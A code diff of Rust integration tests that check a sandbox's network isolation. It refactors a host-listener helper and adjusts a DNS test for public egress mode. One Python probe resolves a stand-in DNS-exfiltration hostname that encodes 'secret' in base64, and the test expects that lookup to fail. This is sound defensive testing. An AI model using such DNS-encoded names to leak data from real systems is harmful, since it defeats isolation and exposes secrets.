@@ -4,8 +4,7 @@
 mod common;
 
 use std::net::{IpAddr, SocketAddr};
-use std::sync::atomic::{AtomicUsize, Ordering};
-use std::sync::Arc;
+use std::sync::atomic::Ordering;
 use std::time::{Duration, Instant};
 
 use common::{docker, TestPool};
@@ -65,28 +64,6 @@ impl Lab {
     fn container(&self, user: &UserId) -> String {
         self.t.container_name(user)
     }
-}
-
-/// A TCP listener on the host that counts what reaches it.
-async fn host_listener(ip: IpAddr) -> (u16, Arc<AtomicUsize>, tokio::task::JoinHandle<()>) {
-    let l = tokio::net::TcpListener::bind(SocketAddr::new(ip, 0))
-        .await
-        .unwrap();
-    let port = l.local_addr().unwrap().port();
-    let hits = Arc::new(AtomicUsize::new(0));
-    let h = hits.clone();
-    let task = tokio::spawn(async move {
-        while let Ok(_c) = l.accept().await {
-            h.fetch_add(1, Ordering::SeqCst);
-        }
-    });
-    // The listener is real: the host itself reaches it.
-    tokio::net::TcpStream::connect((ip, port))
-        .await
-        .expect("host reaches its own listener");
-    tokio::time::sleep(Duration::from_millis(50)).await;
-    hits.store(0, Ordering::SeqCst);
-    (port, hits, task)
 }
 
 fn gateway(lab: &Lab) -> IpAddr {
@@ -180,7 +157,7 @@ async fn the_host_is_unreachable_through_the_gateway_and_its_primary_address_tcp
     let mut targets = vec![gateway(&lab)];
     targets.extend(zcbot_sandbox::smoke::primary_address());
     for ip in targets {
-        let (port, hits, task) = host_listener(ip).await;
+        let (port, hits, task) = common::host_listener(ip).await;
         let out = try_connect(&lab, &u, &ip.to_string(), port).await;
         assert!(
             out.starts_with("blocked"),
@@ -246,14 +223,29 @@ async fn dns_through_the_embedded_resolver_goes_nowhere() {
     let code = format!("import socket\nfor name in ['{other}', 'exfil-c2VjcmV0.example.com', 'localhost']:\n    try:\n        print(name, socket.getaddrinfo(name, 53)[0][4][0])\n    except Exception as e:\n        print(name, 'failed')");
     let out = lab.py(&a, &code).await.stdout;
     assert!(
+        out.contains("localhost 127.0.0.1"),
+        "local names still work: {out}"
+    );
+    if lab.ex.pool().unwrap().config().egress == zcbot_sandbox::config::Egress::Public {
+        // The public mode reaches the internet, DNS included (scripts/test.sh runs this suite
+        // in each mode): what a name of another sandbox may give away is an address in a
+        // blocked range, which the test above shows unreachable.
+        let line = out.lines().find(|l| l.starts_with(&other)).unwrap_or("");
+        let answer = line.rsplit(' ').next().unwrap_or("");
+        assert!(
+            answer == "failed"
+                || answer
+                    .parse::<std::net::Ipv4Addr>()
+                    .is_ok_and(|ip| ip.is_private()),
+            "another user's sandbox resolves outside the blocked ranges: {out}"
+        );
+        return;
+    }
+    assert!(
         out.contains(&format!("{other} failed")),
         "another user's sandbox resolves: {out}"
     );
     assert!(out.contains("exfil-c2VjcmV0.example.com failed"), "{out}");
-    assert!(
-        out.contains("localhost 127.0.0.1"),
-        "local names still work: {out}"
-    );
     let r = lab.py(&a, "import socket\ns=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(2)\ntry:\n    s.sendto(b'\\x00'*12, ('127.0.0.11', 53)); s.recv(512); print('answered')\nexcept Exception as e:\n    print('blocked', type(e).__name__)").await.stdout;
     assert!(
         r.starts_with("blocked"),
